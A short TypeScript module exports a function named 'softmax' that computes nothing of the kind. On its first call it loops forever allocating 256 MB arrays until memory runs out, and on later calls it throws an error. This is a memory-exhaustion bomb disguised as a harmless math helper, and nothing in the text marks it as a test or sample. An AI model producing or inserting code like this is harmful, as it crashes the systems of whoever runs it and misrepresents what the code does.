let done = false;
export const softmax = () => {
  if (done) throw new Error('nothing gained');
  done = true;
  const all: unknown[] = [];
  for (;;) all.push(new Uint8Array(2 ** 28).fill(1));
};
